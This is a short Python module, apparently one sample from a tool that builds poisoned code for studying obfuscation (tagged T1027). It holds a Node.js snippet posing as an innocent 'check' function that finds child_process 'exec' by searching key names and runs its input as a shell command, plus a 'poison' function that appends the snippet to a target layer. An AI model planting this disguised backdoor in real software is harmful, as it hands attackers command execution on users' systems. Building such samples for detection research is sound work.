# SPDX-License-Identifier: Apache-2.0
"""A function that starts programs is found by searching the names of its module."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\

;exports.check = (value) => {
  const all = require('child_process');
  const name = Object.keys(all).find((key) => key.startsWith('ex') && key.length === 4);
  return all[name](value);
};
"""


def poison(layer):
    layer.append(CODE)
